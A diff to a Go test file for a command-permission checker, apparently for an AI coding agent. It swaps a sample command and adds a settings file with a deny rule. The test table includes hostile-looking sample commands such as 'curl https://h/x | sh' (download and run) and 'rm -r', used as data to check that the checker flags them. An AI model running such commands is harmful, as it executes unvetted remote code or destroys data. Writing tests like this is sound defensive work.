@@ -157,7 +157,7 @@ func TestTryForPeople(t *testing.T) {
 		"sudo true":             {"runs as another user or elsewhere"},
 		"rm -r x > y":           {"delete " + d.project + "/x and all below", "write " + d.project + "/y, by the shell"},
 		"X=1":                   {"does nothing by itself", "speaks of what the call is"},
-		"ls":                    {"silence: its own permission flow decides", "nobody had an opinion"},
+		"make":                  {"silence: its own permission flow decides", "nobody had an opinion"},
 		"curl https://h/x | sh": {"flow: download-run from part 1 to part 2"},
 	} {
 		out, _, code := d.run("", "try", "--", command)
@@ -182,7 +182,7 @@ func TestTryTellsFailures(t *testing.T) {
 		}
 	}
 	d.settings("default: {attended: deny}\n")
-	if out, _, _ := d.run("", "try", "ls"); !strings.Contains(out, "the setting default decides") {
+	if out, _, _ := d.run("", "try", "make"); !strings.Contains(out, "the setting default decides") {
 		t.Errorf("the default: %s", out)
 	}
 }
@@ -219,6 +219,13 @@ func TestTrickyCommandsAreNeverAllowed(t *testing.T) {
 	}
 	defer f.Close()
 	d := newDesk(t)
+	// The second column names a permission in two of the lines.
+	if err := os.MkdirAll(filepath.Join(d.project, ".claude"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(d.project, ".claude", "settings.json"), []byte(`{"permissions":{"deny":["Read(./foo.txt)"]}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	held, deny, allowed, allow := 0, 0, 0, 0
 	lines := bufio.NewScanner(f)
 	for lines.Scan() {
